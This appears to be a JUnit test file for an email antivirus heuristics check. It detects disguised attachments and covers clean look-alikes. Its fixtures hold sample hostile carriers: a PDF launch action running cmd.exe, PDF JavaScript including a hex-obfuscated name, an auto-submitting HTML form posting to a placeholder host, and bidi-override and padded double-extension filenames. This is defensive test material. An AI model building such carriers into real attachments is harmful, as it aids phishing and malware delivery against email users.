package io.bulwark.scan.antivirus.heuristics;

import static io.bulwark.scan.testing.Archives.entries;
import static org.assertj.core.api.Assertions.assertThat;

import io.bulwark.events.rule.ModuleOption;
import io.bulwark.events.rule.ModuleSettings;
import io.bulwark.events.scan.ModuleVerdict;
import io.bulwark.events.scan.ProtectionModule;
import io.bulwark.events.scan.ScanStatus;
import io.bulwark.scan.ScanServices;
import io.bulwark.scan.SymbolRegistry;
import io.bulwark.scan.archive.ArchiveWalker;
import io.bulwark.scan.archive.StreamingArchiveWalker;
import io.bulwark.scan.pipeline.CheckRun;
import io.bulwark.scan.pipeline.ModuleJudge;
import io.bulwark.scan.testing.Archives;
import io.bulwark.scan.testing.CheckHarness;
import io.bulwark.scan.testing.OfficeFiles;
import io.bulwark.scan.testing.TestMessages;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The "probably infected" heuristics: one row per kind of carrier, and its look-alikes that must stay clean. */
class HeuristicsCheckTest {
    private static final HeuristicsCheck CHECK = new HeuristicsCheck();
    private static final CheckHarness HARNESS = new CheckHarness(CHECK, ScanServices.builder()
            .add(ArchiveWalker.class, new StreamingArchiveWalker()).build());

    @AfterAll
    static void close() {
        HARNESS.close();
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    static Stream<Arguments> table() {
        byte[] pe = Archives.peExecutable();
        String autoSubmit = "<html><body onload=\"document.forms[0].submit()\"><form action=\"https://collect.example/p\""
                + " method=\"post\"><input name=\"user\"></form></body></html>";
        return Stream.of(
                Arguments.of("double extension inside a zip", TestMessages.withAttachment("x", "docs.zip",
                        Archives.zip(entries("invoice.pdf.exe", pe))), Set.of("DECEPTIVE_DOUBLE_EXTENSION")),
                Arguments.of("double extension padded with blanks", TestMessages.withAttachment("x", "docs.zip",
                        Archives.zip(entries("invoice.pdf          .exe", pe))), Set.of("DECEPTIVE_DOUBLE_EXTENSION")),
                Arguments.of("a date before the extension is no decoy", TestMessages.withAttachment("x", "d.zip",
                        Archives.zip(entries("report 12.03.2020.scr", pe))), Set.of()),
                Arguments.of("right-to-left override in an entry name", TestMessages.withAttachment("x", "p.zip",
                        Archives.zip(entries("photo\u202Egpj.exe", pe))), Set.of("BIDI_OVERRIDE_NAME")),
                Arguments.of("an executable named as a PDF", TestMessages.withAttachment("x", "scan.pdf", pe),
                        Set.of("DISGUISED_EXECUTABLE")),
                Arguments.of("an executable named as one is not disguised", TestMessages.withAttachment("x",
                        "setup.exe", pe), Set.of()),
                Arguments.of("Word 97 document with a VBA project", TestMessages.withAttachment("x", "letter.doc",
                        OfficeFiles.ole2(true, "Dear customer")), Set.of("OFFICE_MACRO")),
                Arguments.of("Word 97 document without macros that names the stream in its text",
                        TestMessages.withAttachment("x", "letter.doc", OfficeFiles.ole2(false,
                                "the _VBA_PROJECT stream holds the project")), Set.of()),
                Arguments.of("macro-enabled OOXML package", TestMessages.withAttachment("x", "report.docm",
                        OfficeFiles.docm()), Set.of("OFFICE_MACRO")),
                Arguments.of("macro document inside a zip", TestMessages.withAttachment("x", "mail.zip",
                        Archives.zip(entries("letter.doc", OfficeFiles.ole2(true, "")))), Set.of("OFFICE_MACRO")),
                Arguments.of("PDF that runs JavaScript on open", TestMessages.withAttachment("x", "a.pdf", ascii(
                        "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
                                + "2 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\n%%EOF\n")),
                        Set.of("PDF_JAVASCRIPT")),
                Arguments.of("PDF with a hex-escaped JavaScript name", TestMessages.withAttachment("x", "b.pdf", ascii(
                        "%PDF-1.7\n1 0 obj<</S/J#61va#53cript/JS 3 0 R>>endobj\n%%EOF\n")), Set.of("PDF_JAVASCRIPT")),
                Arguments.of("PDF with a launch action", TestMessages.withAttachment("x", "c.pdf", ascii(
                        "%PDF-1.4\n1 0 obj << /S /Launch /Win << /F (cmd.exe) >> >> endobj\n%%EOF\n")),
                        Set.of("PDF_LAUNCH")),
                Arguments.of("plain PDF", TestMessages.withAttachment("x", "d.pdf", ascii(
                        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n")), Set.of()),
                Arguments.of("HTML attachment that submits its form", TestMessages.withAttachment("x", "login.html",
                        ascii(autoSubmit)), Set.of("HTML_AUTO_SUBMIT")),
                Arguments.of("HTML attachment with a form and no submitting script",
                        TestMessages.withAttachment("x", "form.html", ascii("<html><script>var a=1;</script>"
                                + "<form action=\"/x\"><input type=submit></form></html>")), Set.of()),
                Arguments.of("an HTML body (not an attachment) is not judged", TestMessages.multipart("x",
                        "Content-Type: text/html; charset=us-ascii\r\n\r\n" + autoSubmit), Set.of()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("table")
    void reportsTheCarrierOrNothing(String name, byte[] message, Set<String> expected) {
        CheckRun run = HARNESS.run(message);
        assertThat(run.symbols().stream().map(s -> s.name()).collect(Collectors.toSet())).as(name)
                .isEqualTo(expected);
        run.symbols().forEach(s -> assertThat(s.reason()).contains("part 2"));
    }

    @Test
    void aMacroDocumentIsProbablyInfectedOnlyWhereTheRuleSaysSo() {
        byte[] message = TestMessages.withAttachment("x", "report.docm", OfficeFiles.docm());
        CheckRun run = HARNESS.run(message);
        SymbolRegistry registry = SymbolRegistry.of(List.of(CHECK), Map.of());
        ModuleSettings defaults = ModuleSettings.defaults(ProtectionModule.ANTI_VIRUS);
        ModuleVerdict flagged = ModuleJudge.judge(ProtectionModule.ANTI_VIRUS, List.of(run),
                defaults.withOption(ModuleOption.MACROS_PROBABLY_INFECTED, "yes"), registry);
        ModuleVerdict tolerated = ModuleJudge.judge(ProtectionModule.ANTI_VIRUS, List.of(run),
                defaults.withOption(ModuleOption.MACROS_PROBABLY_INFECTED, "no"), registry);
        assertThat(flagged.status()).isEqualTo(ScanStatus.PROBABLY_INFECTED);
        assertThat(flagged.partPaths()).containsExactly("2");
        assertThat(flagged.reasons()).anySatisfy(r -> assertThat(r).contains("VBA macro project in part 2 (report.docm"));
        assertThat(tolerated.status()).isEqualTo(ScanStatus.CLEAN);
        assertThat(defaults.option(ModuleOption.MACROS_PROBABLY_INFECTED)).isEqualTo("no");
    }

    @Test
    void aToleratedMacroDocumentIsNoTargetOfAnotherFindingsDeleteAttachment() {
        byte[] message = TestMessages.multipart("x", TestMessages.base64Part("report.docm", OfficeFiles.docm()),
                TestMessages.base64Part("scan.pdf", Archives.peExecutable()));
        CheckRun run = HARNESS.run(message);
        ModuleVerdict verdict = ModuleJudge.judge(ProtectionModule.ANTI_VIRUS, List.of(run),
                ModuleSettings.defaults(ProtectionModule.ANTI_VIRUS), SymbolRegistry.of(List.of(CHECK), Map.of()));
        assertThat(verdict.status()).isEqualTo(ScanStatus.PROBABLY_INFECTED);
        assertThat(verdict.partPaths()).containsExactly("2");
    }

    static Stream<Arguments> rspamdCases() {
        return Stream.of(
                Arguments.of("zip-doublebad.eml", true),
                Arguments.of("bad_ext.dotted_file_name.eml", false),
                Arguments.of("next2last-digits_in_parens.eml", false),
                Arguments.of("next2last-digits_in_brackets.eml", false),
                Arguments.of("rar-date-bad-ext.eml", false),
                Arguments.of("zip.eml", false));
    }

    /** rspamd's MIME_DOUBLE_BAD_EXTENSION cases (corpus cases 2, 4-7; see the resources' SOURCE.md). */
    @ParameterizedTest(name = "{0}")
    @MethodSource("rspamdCases")
    void agreesWithRspamdOnDoubleExtensions(String file, boolean doubleExtension) throws IOException {
        byte[] message;
        try (InputStream in = getClass().getResourceAsStream("/contentfilter/rspamd-suite/messages/" + file)) {
            message = in.readAllBytes();
        }
        boolean found = HARNESS.run(message).symbols().stream()
                .anyMatch(s -> s.name().equals(HeuristicsCheck.DECEPTIVE_DOUBLE_EXTENSION));
        assertThat(found).isEqualTo(doubleExtension);
    }
}
